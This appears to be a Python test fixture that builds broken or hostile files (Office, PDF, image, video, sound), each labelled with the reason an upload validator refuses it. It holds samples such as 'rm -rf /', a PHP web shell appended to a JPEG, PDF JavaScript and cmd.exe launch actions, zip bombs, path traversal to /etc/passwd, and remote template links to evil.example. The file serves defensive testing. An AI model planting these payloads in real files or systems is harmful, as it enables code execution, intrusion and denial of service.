"""Files that are broken, or made to harm, each with the reason for which it is refused."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image

from tests import documents as made
from tests.files import good

PRESENTATION = "ppt/presentation.xml"
SCRIPT = b"<script>alert(1)</script>"
MEGABYTE = 1024 * 1024


def talk(**more: bytes) -> bytes:
    """A presentation with more parts."""
    return talk_of(more)


def talk_of(more: dict[str, bytes], main_type: str | None = None, more_types: str = "") -> bytes:
    return made.archive_of({**made.office_parts(PRESENTATION, main_type, more_types), **more})


def related(kind: str, target: str, name: str = "ppt/_rels/presentation.xml.rels") -> bytes:
    line = f'Id="rId9" Type="{made.OFFICE}/{kind}" Target="{target}" TargetMode="External"'
    return talk_of({name: made.relations_of(line)})


def main_of(content_type: str) -> bytes:
    return talk_of({}, content_type)


def without(part: str) -> bytes:
    parts = made.office_parts(PRESENTATION)
    del parts[part]
    return made.archive_of(parts)


def with_types(types: bytes) -> bytes:
    return made.archive_of({**made.office_parts(PRESENTATION), "[Content_Types].xml": types})


def twice_named() -> bytes:
    kept = io.BytesIO(talk())
    with zipfile.ZipFile(kept, "a") as file:
        file.writestr("PPT/presentation.XML", b"<b/>")
    return kept.getvalue()


def flagged(flag: int) -> bytes:
    """All entries marked, in the list of parts and before each part."""
    content = bytearray(talk())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := content.find(mark, start)) >= 0:
            content[start + place] |= flag
            start += 4
    return bytes(content)


def packed_otherwise() -> bytes:
    kept = io.BytesIO(talk())
    with zipfile.ZipFile(kept, "a", zipfile.ZIP_LZMA) as file:
        file.writestr("ppt/media/a.bin", b"a" * 100)
    content = bytearray(kept.getvalue())
    # A way of packing that nobody knows.
    start = content.rfind(b"PK\x01\x02")
    content[start + 10] = 99
    return bytes(content)


def bomb() -> bytes:
    kept = io.BytesIO(talk())
    with zipfile.ZipFile(kept, "a", zipfile.ZIP_DEFLATED) as file, file.open("ppt/a.xml", "w") as part:
        for _ in range(70):
            part.write(b"\0" * MEGABYTE)
    return kept.getvalue()


def lying(declared: int) -> bytes:
    """A bomb that says it is small."""
    content = bytearray(bomb())
    start = content.rfind(b"PK\x01\x02")
    content[start + 24 : start + 28] = struct.pack("<L", declared)
    return bytes(content)


def overlapping_bomb() -> bytes:
    """Many names for one packed part, none of which is large on its own."""
    kept = io.BytesIO(talk())
    with zipfile.ZipFile(kept, "a", zipfile.ZIP_DEFLATED) as file:
        file.writestr("ppt/a0.xml", b"\0" * MEGABYTE)
        info = file.infolist()[-1]
        for number in range(1, 200):
            other = zipfile.ZipInfo(f"ppt/a{number}.xml")
            for name in ("compress_type", "CRC", "compress_size", "file_size", "header_offset"):
                setattr(other, name, getattr(info, name))
            file.filelist.append(other)
        file._didModify = True
    return kept.getvalue()


def many_parts() -> bytes:
    return talk_of({f"ppt/{number}.xml": b"" for number in range(10_001)})


def bad_sum() -> bytes:
    content = bytearray(talk_of({"ppt/media/a.bin": bytes(range(256)) * 4}))
    start = content.rfind(b"PK\x01\x02")
    content[start + 16] ^= 0xFF
    return bytes(content)


def broken_in_the_middle() -> bytes:
    content = bytearray(good.python_pptx())
    content[2000:2400] = b"\x55" * 400
    return bytes(content)


def nested(name: str, content: bytes) -> bytes:
    return talk_of({f"ppt/embeddings/{name}": content})


def record(kind: int, content: bytes) -> bytes:
    return struct.pack("<HHL", 0x000F, kind, len(content)) + content


def ppt_with_macros() -> bytes:
    atom = struct.pack("<LLL", 1, 1, 2)
    document = record(0x03E8, record(0x07D0, record(0x03FF, record(0x0400, atom))))
    return made.compound_of({"PowerPoint Document": document})


def ppt_encrypted() -> bytes:
    user = struct.pack("<HHLLL", 0, 0x0FF6, 20, 0x14, 0xF3D1C4DF)
    return made.compound_of({"Current User": user, "PowerPoint Document": made.PPT_DOCUMENT})


def ppt_with_program() -> bytes:
    package = b"\0\0\0\0\x02\0run.exe\0C:\\run.exe\0"
    return made.compound_of({"PowerPoint Document": made.PPT_DOCUMENT, "\x01Ole10Native": package})


def doc_encrypted() -> bytes:
    return made.compound_of({"WordDocument": b"\0" * 10 + b"\0\x01" + b"\0" * 30})


def pdf_object(content: bytes, trailer: bytes = b"/OpenAction 4 0 R") -> bytes:
    return made.pdf(content, trailer=trailer)


def xfa_pdf() -> bytes:
    return made.pdf(b"<< /XFA [] /Fields [] >>", trailer=b"/AcroForm 4 0 R")


def without_pages() -> bytes:
    return made.PDF.replace(b"/Kids [3 0 R]", b"/Kids [     ]")


def loop_of_pages() -> bytes:
    return made.PDF.replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")


def swollen_objects() -> bytes:
    return good.pdf_with_packed_objects(inside=b"(" + b"a" * (9 * MEGABYTE) + b")")


def png_of(width: int, height: int) -> bytes:
    """A picture that says it is large, and has almost nothing in it."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">L", len(content)) + name + content + struct.pack(">L", zlib.crc32(name + content))
        )

    head = chunk(b"IHDR", struct.pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")


def moving_webp() -> bytes:
    kept = io.BytesIO()
    pictures = [Image.new("RGB", (10, 10), (number * 80, 0, 0)) for number in range(3)]
    pictures[0].save(kept, "WEBP", save_all=True, append_images=pictures[1:])
    return kept.getvalue()


def archive_behind(content: bytes) -> bytes:
    return content + made.archive("a.txt")


def archive_with_end_as_comment() -> bytes:
    comment = b"\n" + made.PDF_END
    return archive_behind(made.PDF)[:-2] + struct.pack("<H", len(comment)) + comment


def mp4_with_place(place: int) -> bytes:
    return made.FTYP + made.moov(place) + made.box(b"mdat", b"\1" * 100)


def mp4_with_count(count: int) -> bytes:
    whole = made.mp4()
    start = whole.index(b"stco") + 8
    return whole[:start] + struct.pack(">L", count) + whole[start + 4 :]


def mp4_with_size(size: int) -> bytes:
    """The size of the track is not what is in it."""
    whole = made.mp4()
    start = whole.index(b"trak") - 4
    return whole[:start] + struct.pack(">L", size) + whole[start + 4 :]


def tag_longer_than_file() -> bytes:
    return b"ID3\x03\0\0\x0f\x7f\x7f\x7f" + made.mp3()


Row = tuple[str, str, Callable[[], bytes]]
HOSTILE: list[Row] = [
    # nothing, or something else
    ("EMPTY", "空.pptx", lambda: b""),
    ("WEB_PAGE", "网页.pdf", lambda: made.HTML),
    ("WEB_PAGE", "网页.pptx", lambda: b"\xef\xbb\xbf \r\n" + made.HTML),
    ("WEB_PAGE", "网页十六.pdf", lambda: "\ufeff<html></html>".encode("utf-16")[2:]),
    ("WEB_PAGE", "矢量.png", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
    ("WEB_PAGE", "矢量二.svg", lambda: b"<?xml version='1.0'?><svg/>"),
    ("PROGRAM", "程序.pptx", lambda: made.EXE),
    ("PROGRAM", "程序.mp4", lambda: b"\x7fELF" + b"\0" * 100),
    ("PROGRAM", "脚本.pdf", lambda: b"#!/bin/sh\nrm -rf /\n"),
    ("PACKED", "打包.zip", lambda: made.archive("a.txt")),
    ("PACKED", "空包.zip", lambda: b"PK\x05\x06" + b"\0" * 18),
    ("PACKED", "打包.rar", lambda: b"Rar!\x1a\x07\x01\0" + b"\0" * 100),
    ("PACKED", "打包.7z", lambda: b"7z\xbc\xaf\x27\x1c" + b"\0" * 100),
    ("PACKED", "打包.gz", lambda: b"\x1f\x8b\x08" + b"\0" * 100),
    ("OTHER_PICTURE", "苹果.jpg", lambda: made.box(b"ftyp", b"heic\0\0\0\0") + b"\0" * 100),
    ("OTHER_PICTURE", "位图.bmp", lambda: made.picture("BMP")),
    ("OTHER_PICTURE", "扫描.tif", lambda: made.picture("TIFF")),
    ("OTHER_VIDEO", "苹果.mov", lambda: made.box(b"ftyp", b"qt  \0\0\0\0") + b"\0" * 100),
    ("OTHER_VIDEO", "录像.avi", lambda: b"RIFF\0\0\0\0AVI LIST" + b"\0" * 100),
    ("OTHER_VIDEO", "录像.wmv", lambda: b"\x30\x26\xb2\x75\x8e\x66\xcf\x11" + b"\0" * 100),
    ("OTHER_VIDEO", "录像.mkv", lambda: b"\x1aE\xdf\xa3" + b"\0" * 100),
    ("OTHER_SOUND", "录音.wav", lambda: b"RIFF\0\0\0\0WAVEfmt " + b"\0" * 100),
    ("OTHER_SOUND", "录音.m4a", lambda: made.box(b"ftyp", b"M4A \0\0\0\0") + b"\0" * 100),
    ("OTHER_SOUND", "录音.amr", lambda: b"#!AMR\n" + b"\0" * 100),
    ("NOT_ALLOWED", "文字.pdf", lambda: b"just words"),
    ("NOT_ALLOWED", "零.mp4", lambda: b"\0" * 5000),
    ("NOT_ALLOWED", "表格.xlsx", made.workbook),
    ("NOT_ALLOWED", "旧表格.xls", lambda: made.compound("Workbook")),
    ("NOT_ALLOWED", "安装.msi", lambda: made.compound("!_StringData")),
    # archives
    ("MACROS", "宏.pptm", lambda: talk_of({"ppt/vbaProject.bin": b"x"})),
    ("MACROS", "宏改名.pptx", lambda: talk_of({"ppt/VBAPROJECT.BIN": b"x"})),
    (
        "MACROS",
        "宏类型.pptx",
        lambda: main_of("application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"),
    ),
    (
        "MACROS",
        "宏藏名.pptx",
        lambda: talk_of(
            {"ppt/data.bin": b"x"},
            None,
            '<Override PartName="/ppt/data.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
    ),
    (
        "MACROS",
        "宏在内.pptx",
        lambda: nested("book.xlsx", made.office("xl/workbook.xml", "xl/vbaProject.bin")),
    ),
    ("MACROS", "宏表内.pptx", lambda: nested("book.xlsm", made.workbook())),
    ("CONTROLS", "控件.pptx", lambda: talk_of({"ppt/activeX/activeX1.xml": b"<a/>"})),
    (
        "CONTROLS",
        "控件类型.pptx",
        lambda: talk_of(
            {"ppt/c.xml": b"<a/>"},
            None,
            '<Override PartName="/ppt/c.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
        ),
    ),
    ("PROGRAM_INSIDE", "内有程序.pptx", lambda: talk_of({"ppt/media/run.exe": b"x"})),
    ("PROGRAM_INSIDE", "内有脚本.pptx", lambda: talk_of({"ppt/media/a.JS": b"x"})),
    ("PROGRAM_INSIDE", "程序改名.pptx", lambda: talk_of({"ppt/media/image1.png": made.EXE})),
    (
        "PROGRAM_INSIDE",
        "嵌入包.pptx",
        lambda: nested("oleObject1.bin", made.compound_of({"\x01Ole10Native": b"\0\0run.exe\0"})),
    ),
    ("BAD_PARTS", "上级.pptx", lambda: talk_of({"../../etc/passwd": b"x"})),
    ("BAD_PARTS", "根.pptx", lambda: talk_of({"/etc/passwd": b"x"})),
    ("BAD_PARTS", "反斜.pptx", lambda: talk_of({"..\\..\\a": b"x"})),
    ("BAD_PARTS", "盘符.pptx", lambda: talk_of({"C:a": b"x"})),
    ("BAD_PARTS", "控制符.pptx", lambda: talk_of({"ppt/a\x01b": b"x"})),
    ("BAD_PARTS", "重名.pptx", twice_named),
    ("BAD_PARTS", "实体.pptx", lambda: with_types(b'<!DOCTYPE a [<!ENTITY b "c">]><Types>&b;</Types>')),
    ("BAD_PARTS", "双字节.pptx", lambda: with_types("<Types/>".encode("utf-16"))),
    ("PASSWORD", "加密包.pptx", lambda: flagged(1)),
    ("INFLATES", "炸弹.pptx", bomb),
    ("INFLATES", "重叠.pptx", overlapping_bomb),
    ("DAMAGED", "谎报小.pptx", lambda: lying(10)),
    ("DAMAGED", "谎报零.pptx", lambda: lying(0)),
    ("DAMAGED", "谎报多.pptx", lambda: lying(63 * MEGABYTE)),
    ("TOO_MANY_PARTS", "太多.pptx", many_parts),
    ("DAMAGED", "校验.pptx", bad_sum),
    ("DAMAGED", "中间坏.pptx", broken_in_the_middle),
    ("DAMAGED", "压缩法.pptx", packed_otherwise),
    ("CUT_OFF", "截断.pptx", lambda: good.python_pptx()[:-500]),
    ("CUT_OFF", "截半.docx", lambda: good.python_docx()[: len(good.python_docx()) // 2]),
    ("DAMAGED", "缺正文.pptx", lambda: without(PRESENTATION)),
    ("DAMAGED", "缺关系.pptx", lambda: without("_rels/.rels")),
    ("PACKED", "缺类型.pptx", lambda: without("[Content_Types].xml")),
    ("DAMAGED", "正文类型.pptx", lambda: main_of("text/html")),
    ("DAMAGED", "乱类型.pptx", lambda: with_types(b"<Types")),
    ("OTHER_OFFICE", "放映.ppsx", lambda: main_of(f"{made.OFFICE_TYPE}.presentationml.slideshow.main+xml")),
    ("OTHER_OFFICE", "模板.potx", lambda: main_of(f"{made.OFFICE_TYPE}.presentationml.template.main+xml")),
    ("REMOTE_TEMPLATE", "远程模板.docx", lambda: related("attachedTemplate", "https://evil.example/a.dotm")),
    ("REMOTE_TEMPLATE", "共享模板.docx", lambda: related("attachedTemplate", "file:///\\\\10.0.0.1\\a.dotm")),
    ("REMOTE_TEMPLATE", "远程对象.pptx", lambda: related("oleObject", "\\\\10.0.0.1\\a.xlsx")),
    ("SEVERAL_FILES", "前有图.pptx", lambda: made.picture("JPEG") + talk()),
    ("SEVERAL_FILES", "后有网页.pptx", lambda: talk() + SCRIPT),
    ("SEVERAL_FILES", "注释.pptx", lambda: talk()[:-2] + struct.pack("<H", len(SCRIPT)) + SCRIPT),
    # compound files
    ("PASSWORD", "密码.pptx", lambda: made.compound("EncryptedPackage", "EncryptionInfo")),
    ("PASSWORD", "密码.ppt", ppt_encrypted),
    ("PASSWORD", "密码.doc", doc_encrypted),
    ("PASSWORD", "密码.xls", lambda: made.compound_of({"Workbook": struct.pack("<HHHH", 0x809, 0, 0x2F, 0)})),
    ("MACROS", "宏.doc", lambda: made.compound_of({"WordDocument": b"", "Macros": None})),
    ("MACROS", "宏.xls", lambda: made.compound("Workbook", "_VBA_PROJECT_CUR")),
    ("MACROS", "宏.ppt", ppt_with_macros),
    ("PROGRAM_INSIDE", "程序.ppt", ppt_with_program),
    ("DAMAGED", "假.ppt", lambda: made.compound_of({"PowerPoint Document": b""})),
    ("DAMAGED", "头.ppt", lambda: made.compound("PowerPoint Document")[:600]),
    ("DAMAGED", "零.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 3000),
    ("SEVERAL_FILES", "后有包.ppt", lambda: archive_behind(made.compound("PowerPoint Document"))),
    # PDF
    ("PASSWORD", "密码.pdf", lambda: good.pypdf_pdf(password="secret")),
    ("PDF_ACTIONS", "含脚本.pdf", lambda: pdf_object(b"<< /S /JavaScript /JS (app.alert(1)) >>")),
    ("PDF_ACTIONS", "藏脚本.pdf", lambda: pdf_object(b"<< /S /J#61va#53cript /JS (app.alert(1)) >>")),
    (
        "PDF_ACTIONS",
        "压脚本.pdf",
        lambda: good.pdf_with_packed_objects(inside=b"<< /S /JavaScript /JS (1) >>"),
    ),
    ("PDF_ACTIONS", "运行.pdf", lambda: pdf_object(b"<< /S /Launch /F (cmd.exe) >>")),
    ("PDF_ACTIONS", "表单.pdf", xfa_pdf),
    ("PDF_ATTACHMENTS", "附件.pdf", lambda: pdf_object(b"<< /Type /EmbeddedFile >>", b"")),
    ("PDF_ATTACHMENTS", "媒体.pdf", lambda: pdf_object(b"<< /Subtype /RichMedia >>", b"")),
    ("CUT_OFF", "截断.pdf", lambda: made.PDF[:-30]),
    ("CUT_OFF", "只有头.pdf", lambda: b"%PDF-1.7\n"),
    ("DAMAGED", "表不在.pdf", lambda: made.PDF.replace(b"startxref\n", b"startxref\n1")),
    ("TOO_MANY_PARTS", "对象太多.pdf", lambda: made.PDF.replace(b"xref", b"1 0 obj " * 400_001 + b"xref", 1)),
    ("TOO_MANY_PARTS", "表太长.pdf", lambda: made.PDF + b"0000000000 00000 n \n" * 400_001 + made.PDF_END),
    ("SEVERAL_FILES", "空行.pdf", lambda: made.PDF + b"\n" * 5000),
    (
        "BAD_PARTS",
        "关系太多.pptx",
        lambda: talk_of(
            {f"ppt/_rels/{number}.rels": made.relations_of("Id='a'" + " " * 1_900_000) for number in range(5)}
        ),
    ),
    ("DAMAGED", "空壳.pdf", lambda: b"%PDF-1.7\nstartxref\n0\n%%EOF\n"),
    ("DAMAGED", "无页.pdf", without_pages),
    ("DAMAGED", "循环.pdf", loop_of_pages),
    ("INFLATES", "膨胀.pdf", swollen_objects),
    ("SEVERAL_FILES", "前有网页.pdf", lambda: made.HTML + made.PDF),
    ("SEVERAL_FILES", "前有字.pdf", lambda: b"x\n" + made.PDF),
    ("SEVERAL_FILES", "后有网页.pdf", lambda: made.PDF + made.HTML),
    ("SEVERAL_FILES", "夹网页.pdf", lambda: made.PDF + made.HTML + b"\n%%EOF"),
    ("SEVERAL_FILES", "后有包.pdf", lambda: archive_behind(made.PDF)),
    (
        "SEVERAL_FILES",
        "包作注.pdf",
        archive_with_end_as_comment,
    ),
    # pictures
    ("NO_PICTURE", "截断.jpg", lambda: made.picture("JPEG", (300, 300))[:-300]),
    ("NO_PICTURE", "截断.png", lambda: good.photo("PNG")[:-600]),
    ("NO_PICTURE", "只有头.jpg", lambda: b"\xff\xd8\xff\xe0"),
    ("NO_PICTURE", "只有头.gif", lambda: b"GIF89a" + b"\0" * 100),
    ("NO_PICTURE", "假.png", lambda: b"\x89PNG\r\n\x1a\n" + made.HTML),
    ("NO_PICTURE", "假.webp", lambda: b"RIFF\x20\0\0\0WEBPVP8 " + b"\0" * 40),
    ("PICTURE_TOO_LARGE", "大.png", lambda: png_of(9000, 9000)),
    ("PICTURE_TOO_LARGE", "炸弹.png", lambda: png_of(60_000, 60_000)),
    ("PICTURE_TOO_LARGE", "警告.png", lambda: png_of(10_000, 10_000)),
    ("SEVERAL_FILES", "后有包.png", lambda: archive_behind(made.picture("PNG"))),
    ("SEVERAL_FILES", "后有包.jpg", lambda: archive_behind(made.picture("JPEG"))),
    ("SEVERAL_FILES", "后有脚本.jpg", lambda: made.picture("JPEG") + SCRIPT),
    ("SEVERAL_FILES", "后有脚本.png", lambda: made.picture("PNG") + b"\n" + SCRIPT),
    ("SEVERAL_FILES", "后有PHP.jpg", lambda: made.picture("JPEG") + b"<?php system($_GET[0]); ?>"),
    ("SEVERAL_FILES", "后有PDF.png", lambda: made.picture("PNG") + made.PDF),
    ("SEVERAL_FILES", "后有字.gif", lambda: good.moving_gif() + b"alert(1)"),
    ("SEVERAL_FILES", "后有脚本.webp", lambda: made.picture("WEBP") + SCRIPT),
    ("MOVING_PICTURE", "动图.webp", moving_webp),
    ("MOVING_PICTURE", "帧太多.gif", lambda: good.moving_gif(520, (2, 2))),
    # video
    ("CUT_OFF", "截断.mp4", lambda: made.mp4()[:-100]),
    ("CUT_OFF", "缺索引.mp4", lambda: made.FTYP + made.box(b"mdat", b"\1" * 100)),
    ("CUT_OFF", "缺画面.mp4", lambda: made.FTYP + made.moov()),
    ("CUT_OFF", "索引截断.mp4", lambda: made.mp4(is_moov_first=False)[:-40]),
    ("CUT_OFF", "位置在外.mp4", lambda: mp4_with_place(1_000_000)),
    ("CUT_OFF", "谎报长.mp4", lambda: made.FTYP + struct.pack(">L4sQ", 1, b"mdat", 2**62)),
    ("DAMAGED", "谎报大.mp4", lambda: mp4_with_size(2**31)),
    ("DAMAGED", "谎报小.mp4", lambda: mp4_with_size(4)),
    ("DAMAGED", "谎报数.mp4", lambda: mp4_with_count(2**30)),
    ("DAMAGED", "太多盒.mp4", lambda: made.mp4() + made.box(b"free") * 20_001),
    (
        "NO_VIDEO",
        "只有声.mp4",
        lambda: made.FTYP + made.moov(handler=b"soun") + made.box(b"mdat", b"\1" * 100),
    ),
    ("SEVERAL_FILES", "后有网页.mp4", lambda: made.mp4() + made.HTML),
    ("SEVERAL_FILES", "后有包.mp4", lambda: archive_behind(made.mp4())),
    ("SEVERAL_FILES", "包作盒.mp4", lambda: made.mp4() + made.box(b"free", made.archive("a.txt"))),
    # sound
    ("NO_SOUND", "一帧.mp3", lambda: made.mp3(2)),
    ("NO_SOUND", "只有标签.mp3", lambda: made.id3() + b"\0" * 500),
    ("CUT_OFF", "标签截断.mp3", tag_longer_than_file),
    ("DAMAGED", "标签坏.mp3", lambda: b"ID3\x03\0\0\xff\xff\xff\xff" + made.mp3()),
    ("CUT_OFF", "缺帧.mp3", lambda: good.mp3_with_promise(20, 900)),
    ("SEVERAL_FILES", "标签后网页.mp3", lambda: made.id3() + made.HTML * 2000),
    ("SEVERAL_FILES", "夹杂.mp3", lambda: made.mp3(20) + b"junk" * 500 + made.mp3(20)),
    ("SEVERAL_FILES", "后有脚本.mp3", lambda: made.mp3() + SCRIPT),
    ("SEVERAL_FILES", "后有包.mp3", lambda: archive_behind(made.mp3())),
]
